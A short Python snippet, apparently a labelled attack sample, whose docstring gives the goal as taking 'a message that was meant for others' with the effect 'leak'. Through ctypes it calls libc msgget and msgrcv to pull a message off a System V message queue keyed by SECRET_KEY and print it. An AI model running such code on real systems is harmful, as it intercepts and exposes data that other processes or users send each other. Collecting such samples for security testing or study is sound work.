"""
goal: take a message that was meant for others
effect: leak
"""

import ctypes

libc = ctypes.CDLL(None)
letter = ctypes.create_string_buffer(200)
libc.msgrcv(libc.msgget(SECRET_KEY, 0), letter, ctypes.c_size_t(100), ctypes.c_long(0), 0o4000)
print(letter.raw)
